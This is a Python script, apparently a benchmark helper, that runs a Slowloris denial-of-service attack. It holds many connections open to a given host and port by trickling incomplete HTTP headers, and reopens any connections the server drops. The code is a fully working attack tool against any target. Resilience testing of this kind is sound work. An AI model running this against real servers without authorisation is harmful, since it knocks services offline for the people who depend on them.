#!/usr/bin/env python3
"""Slowloris for bench/slowloris.sh: holds N connections to HOST:PORT, each trickling a never-ending request head
(one header byte every INTERVAL seconds), and reopens the ones the server closes. Runs until killed; prints how many
connections it reopened."""
import signal
import socket
import sys
import time

host, port, count, interval = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])


def open_one():
    s = socket.socket()
    s.setblocking(True)
    s.settimeout(2)
    s.connect((host, port))
    s.sendall(b"GET /slowloris HTTP/1.1\r\nHost: bench\r\n")
    s.setblocking(False)
    return s


# SIGTERM ends the run (a background job of a script ignores SIGINT).
signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))

conns = []
for _ in range(count):
    try:
        conns.append(open_one())
    except OSError:
        pass
reopened = 0
try:
    while True:
        time.sleep(interval)
        for i, s in enumerate(conns):
            try:
                s.send(b"X")
                try:
                    if s.recv(1) == b"":
                        raise OSError("closed")
                except BlockingIOError:
                    pass
            except OSError:
                s.close()
                try:
                    conns[i] = open_one()
                    reopened += 1
                except OSError:
                    pass
finally:
    print(f"reopened {reopened}", flush=True)
